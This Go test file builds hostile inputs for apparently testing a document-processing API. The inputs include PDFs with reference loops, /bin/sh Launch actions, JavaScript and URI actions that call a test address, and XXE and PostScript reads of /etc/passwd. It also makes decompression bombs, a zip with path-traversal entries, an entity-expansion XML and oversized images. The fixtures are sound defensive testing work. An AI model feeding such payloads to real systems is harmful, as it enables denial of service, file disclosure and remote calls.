package api_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

// hostileFiles are files that want their reader's memory, time, files or
// network. Addresses in them lead to a server that must not hear of them.
func hostileFiles(t *testing.T, address string) map[string][]byte {
	t.Helper()
	files := hostilePictures(t)
	for name, content := range brokenFiles(t) {
		files[name] = content
	}
	for name, parts := range map[string]pdfParts{
		"outline loop":    {catalog: "/Outlines 5 0 R", more: []string{"<< /First 6 0 R /Last 6 0 R >>", "<< /Title (a) /First 7 0 R /Last 7 0 R >>", "<< /Title (b) /Parent 6 0 R /Next 7 0 R >>"}},
		"names loop":      {catalog: "/Names << /Dests 5 0 R /EmbeddedFiles 5 0 R >>", more: []string{"<< /Kids [5 0 R 5 0 R] >>"}},
		"fields loop":     {catalog: "/AcroForm << /Fields [5 0 R] >>", more: []string{"<< /T (a) /FT /Tx /Kids [5 0 R 5 0 R] /Parent 5 0 R >>"}},
		"structure loop":  {catalog: "/MarkInfo << /Marked true >> /StructTreeRoot 5 0 R", more: []string{"<< /Type /StructTreeRoot /K 5 0 R /ParentTree 5 0 R >>"}},
		"form loop":       {resources: "/XObject << /F 5 0 R >>", content: "/F Do", more: []string{stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>", []byte("/F Do /F Do"))}},
		"page of 10 GB":   {box: "0 0 200000 200000"},
		"endless page":    {box: "0 0 1e38 99999999999999999999"},
		"page of nothing": {box: "0 0 0 0"},
		"page of no box":  {box: "(a) /b [] null"},
		"user unit":       {page: "/UserUnit 1e9"},
		"nesting":         {more: []string{strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000), strings.Repeat("<</A", 20_000)}, content: strings.Repeat("q ", 20_000) + strings.Repeat("[", 20_000)},
		"large numbers":   {content: "99999999999999999999 w 1e400 0 0 1e400 0 0 cm 0 0 1e38 1e38 re f", page: "/Rotate 99999999999999999990"},
		"length of self":  {more: []string{"<< /Length 5 0 R >>\nstream\nx\nendstream"}, page: "/Metadata 5 0 R"},
		"flate chain":     {raw: stream("/Filter ["+strings.Repeat("/FlateDecode ", 3)+"]", deflate(deflate(deflatedZeros(64))))},
		"filter chain":    {raw: stream("/Filter ["+strings.Repeat("/ASCIIHexDecode ", 5_000)+"]", []byte("00>"))},
		"image of 1 GB": {resources: "/XObject << /I 5 0 R >>", content: "300 0 0 400 0 0 cm /I Do", more: []string{
			stream("/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode", deflatedZeros(1)),
		}},
		"many contents":    {page: "/Contents [" + strings.Repeat("4 0 R ", 5_000) + "]"},
		"many annotations": {page: "/Annots [" + strings.Repeat("5 0 R ", 20_000) + "]", more: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest [3 0 R /Fit] >>"}},
		"launch":           {catalog: "/OpenAction << /S /Launch /F (/bin/sh) /Unix (/bin/sh) >>", page: "/AA << /O << /S /Launch /F (file:///bin/sh) >> >>"},
		"addresses": {catalog: "/OpenAction << /S /URI /URI (" + address + ") >>", page: "/Annots [5 0 R 6 0 R]", more: []string{
			"<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (" + address + ") >> /PA << /S /SubmitForm /F (" + address + ") >> >>",
			"<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /GoToR /F << /FS /URL /F (" + address + ") >> /D [0 /Fit] >> >>",
		}},
		"script": {catalog: "/OpenAction << /S /JavaScript /JS (app.launchURL\\('" + address + "'\\);while\\(1\\);) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\('" + address + "'\\)) >>] >> >>"},
		"xfa": {catalog: "/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true", more: []string{stream("", []byte(
			`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "`+address+`">]>`+
				`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&a;&b;<event activity="initialize"><script>xfa.host.gotoURL("`+address+`")</script></event></template></xdp:xdp>`))}},
		"external stream": {raw: "<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream", page: "/Metadata 5 0 R", more: []string{"<< /Length 0 /F << /FS /URL /F (" + address + ") >> >>\nstream\n\nendstream"}},
		"postscript": {resources: "/XObject << /P 5 0 R >>", content: "/P Do", more: []string{
			stream("/Type /XObject /Subtype /PS", []byte("{ (/etc/passwd) (r) file } loop")),
		}},
		"font loop": {resources: "/Font << /F1 5 0 R >>", more: []string{"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [5 0 R] /ToUnicode 6 0 R >>",
			stream("", []byte("1 begincodespacerange <0000> <ffff> endcodespacerange 1 beginbfrange <0000> <ffffffff> <0000> endbfrange"))}},
	} {
		files[name] = parts.write()
	}
	return files
}

// pdfParts holds the variable parts of a document of one page.
type pdfParts struct {
	catalog, page, resources, box string
	content                       string // of the page's stream
	raw                           string // the page's stream itself
	more                          []string
}

func (p pdfParts) write() []byte {
	if p.box == "" {
		p.box = "0 0 300 400"
	}
	if p.resources == "" {
		p.resources = "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
	}
	if p.raw == "" {
		p.raw = stream("", []byte("BT /F1 24 Tf 40 300 Td (hostile) Tj ET "+p.content))
	}
	contents := "/Contents 4 0 R"
	if strings.Contains(p.page, "/Contents") {
		contents = ""
	}
	return writePDF(append([]string{
		"<< /Type /Catalog /Pages 2 0 R " + p.catalog + " >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [" + p.box + "] " + contents + " " + p.page + " /Resources << " + p.resources + " >> >>", p.raw,
	}, p.more...), "")
}

func stream(entries string, content []byte) string {
	return fmt.Sprintf("<< /Length %d %s >>\nstream\n%s\nendstream", len(content), entries, content)
}

// brokenFiles returns files whose frame is wrong, or that have another type.
func brokenFiles(t *testing.T) map[string][]byte {
	t.Helper()
	good := letters("alpha", "beta", "gamma")
	text := string(good)
	noise, r := make([]byte, 64<<10), rand.New(rand.NewPCG(1, 2))
	for i := range noise {
		noise[i] = byte(r.Uint32())
	}
	xref := strings.LastIndex(text, "xref\n0 ")
	return map[string][]byte{
		"one byte": {'x'}, "nothing but a header": []byte("%PDF-1.7\n"), "truncated": good[:len(good)/2], "truncated later": good[:len(good)-20],
		"noise": noise, "noise with a header": append([]byte("%PDF-1.7\n"), noise...),
		"page tree loop":    []byte(strings.Replace(text, "/Kids [4", "/Kids [2", 1)),
		"many pages":        []byte(strings.Replace(text, "/Kids [", "/Kids ["+strings.Repeat("4 0 R ", 30_000), 1)),
		"huge count":        []byte(strings.Replace(text, "/Count 3", "/Count 2000000000", 1)),
		"huge xref":         []byte(text[:xref] + strings.Replace(text[xref:], "xref\n0 ", "xref\n0 99999999", 1)),
		"huge size":         []byte(strings.Replace(text, "/Size ", "/Size 2147483647 % ", 1)),
		"previous xref":     []byte(strings.Replace(text, "/Root 1 0 R", fmt.Sprintf("/Root 1 0 R /Prev %d", xref), 1)),
		"xref stream":       []byte("%PDF-1.7\n1 0 obj\n" + stream("/Type /XRef /Size 2147483647 /W [8 8 8] /Index [0 2147483647] /Root 1 0 R /Filter /FlateDecode", deflatedZeros(16)) + "\nendobj\nstartxref\n9\n%%EOF\n"),
		"encryption":        writePDF([]string{"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"}, "/Encrypt << /Filter /Standard /V 5 /R 6 /Length 99999999 /O () /U () /P 1 >> /ID [() ()]"),
		"eps":               []byte("%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/tmp/hostile) (w) file closefile { } loop\n"),
		"eps with a header": []byte("%!PS-Adobe-3.0 EPSF-3.0\n%PDF-1.7\n(/etc/passwd) (r) file { } loop\n%%EOF"),
		"shell script":      []byte("#!/bin/sh\ntouch /tmp/hostile\n"),
		"bomb of an archive": archiveOf(t, map[string]io.Reader{
			"a": zeros(64 << 20), "../../etc/cron.d/x": strings.NewReader("x"), "/etc/passwd": strings.NewReader("x"), "a\x00b": strings.NewReader("x"),
		}),
		"deep XML": []byte(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "` + strings.Repeat("a", 1000) + `"><!ENTITY b "` + strings.Repeat("&a;", 1000) + `">]><l>&b;` + strings.Repeat("<l>", 50_000)),
	}
}

// hostilePictures are images that are much larger than their files.
func hostilePictures(t *testing.T) map[string][]byte {
	t.Helper()
	var frames bytes.Buffer
	still := image.NewPaletted(image.Rect(0, 0, 1, 1), color.Palette{color.Black, color.White})
	animation := gif.GIF{Config: image.Config{Width: 10_000, Height: 10_000}}
	for range 5_000 {
		animation.Image, animation.Delay = append(animation.Image, still), append(animation.Delay, 0)
	}
	if err := gif.EncodeAll(&frames, &animation); err != nil {
		t.Fatal(err)
	}
	header := binary.BigEndian.AppendUint32(nil, 2_000_000_000)
	header = append(binary.BigEndian.AppendUint32(header, 2_000_000_000), 8, 6, 0, 0, 0)
	// 16,000 pixels of a bit each, and the number of its filter, are a row.
	wide := []byte{0, 0, 16_000 >> 8, 16_000 & 0xff, 0, 0, 6_000 >> 8, 6_000 & 0xff, 1, 3, 0, 0, 0}
	tiff := func(next uint32, entries ...[4]uint32) []byte {
		out := append([]byte("II*\x00\x08\x00\x00\x00"), byte(len(entries)), 0)
		for _, e := range entries {
			out = binary.LittleEndian.AppendUint16(out, uint16(e[0]))
			out = binary.LittleEndian.AppendUint16(out, uint16(e[1]))
			out = binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(out, e[2]), e[3])
		}
		return binary.LittleEndian.AppendUint32(out, next)
	}
	small := [][4]uint32{{256, 4, 1, 1}, {257, 4, 1, 1}, {258, 3, 1, 8}, {259, 3, 1, 1}, {262, 3, 1, 1}, {273, 4, 1, 0}, {277, 3, 1, 1}, {278, 4, 1, 1}, {279, 4, 1, 1}}
	large := append([][4]uint32{{256, 4, 1, 4_000_000_000}, {257, 4, 1, 4_000_000_000}}, small[2:]...)
	listed := append([][4]uint32{{258, 3, 0xffffffff, 8}, {273, 4, 0xffffffff, 8}, {279, 4, 0xffffffff, 8}}, small...)
	riff := func(size int, dimensions string) []byte {
		return append([]byte("RIFF\xff\xff\x00\x00WEBP"+dimensions), make([]byte, size)...)
	}
	return map[string][]byte{
		"gif of 5000 frames": frames.Bytes(),
		"png of 100 megapixels": append([]byte("\x89PNG\r\n\x1a\n"),
			chunks("IHDR", wide, "PLTE", []byte{0, 0, 0, 0xff, 0xff, 0xff}, "IDAT", deflate(make([]byte, 2_001*6_000)), "IEND", nil)...),
		"png of 4 exapixels": append([]byte("\x89PNG\r\n\x1a\n"), chunks("IHDR", header, "IDAT", deflatedZeros(64), "IEND", nil)...),
		"png of text":        append([]byte("\x89PNG\r\n\x1a\n"), chunks("IHDR", []byte{0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0}, "zTXt", append([]byte("a\x00\x00"), deflatedZeros(64)...), "IDAT", deflate(make([]byte, 2)), "IEND", nil)...),
		"gif of 4 gigapixel": []byte("GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02D\x01\x00;"),
		"jpeg of 4 gigapixel": []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" +
			"\xff\xc2\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01" + strings.Repeat("\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00\x00", 2_000) + "\xff\xd9"),
		"tiff in a circle": tiff(8, small...), "tiff of 16 exapixels": tiff(0, large...), "tiff of lists": tiff(0, listed...),
		"webp of 1 gigapixel": riff(64, "VP8X\x0a\x00\x00\x00\x02\x00\x00\x00\xff\xff\xff\xff\xff\xff"),
		"webp without loss":   riff(64, "VP8L\xff\xff\x00\x00\x2f\xff\xff\xff\x0f"),
		"svg":                 []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"><image href="file:///etc/passwd"/><script>while(1);</script></svg>`),
	}
}

// chunks writes the chunks of a PNG: names and contents by turns.
func chunks(parts ...any) (out []byte) {
	for i := 0; i < len(parts); i += 2 {
		name, _ := parts[i].(string)
		content, _ := parts[i+1].([]byte)
		out = binary.BigEndian.AppendUint32(out, uint32(len(content)))
		part := append([]byte(name), content...)
		out = binary.BigEndian.AppendUint32(append(out, part...), crc32.ChecksumIEEE(part))
	}
	return out
}

func zeros(n int64) io.Reader { return io.LimitReader(zeroes{}, n) }

type zeroes struct{}

func (zeroes) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// deflate compresses content.
func deflate(content []byte) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	_, _ = w.Write(content) // a buffer takes everything
	_ = w.Close()
	return out.Bytes()
}

// deflatedZeros is compressed zeros, so many mebibytes of them. To compress them all would take seconds. As nothing
// but zeros precedes it, the second mebibyte equals all that follow.
func deflatedZeros(mebibytes int) []byte {
	mebibyte := make([]byte, 1<<20)
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	part := func(write func() error) []byte {
		begin := out.Len()
		_ = write() // a buffer takes everything
		return bytes.Clone(out.Bytes()[begin:])
	}
	more := func() error {
		_, err := w.Write(mebibyte)
		return errors.Join(err, w.Flush())
	}
	first, next, end := part(more), part(more), part(w.Close)
	const checksum = 4
	all := slices.Concat(first, bytes.Repeat(next, mebibytes-1), end[:len(end)-checksum])
	// Adler-32 of n zeros is n modulo its prime, and 1.
	return binary.BigEndian.AppendUint32(all, uint32(mebibytes<<20%65521)<<16|1)
}

// archiveOf makes a ZIP archive of entries, whatever their names are.
func archiveOf(t *testing.T, entries map[string]io.Reader) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	z.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, flate.BestSpeed) })
	for name, content := range entries {
		w, err := z.Create(name)
		if err == nil {
			_, err = io.Copy(w, content)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}
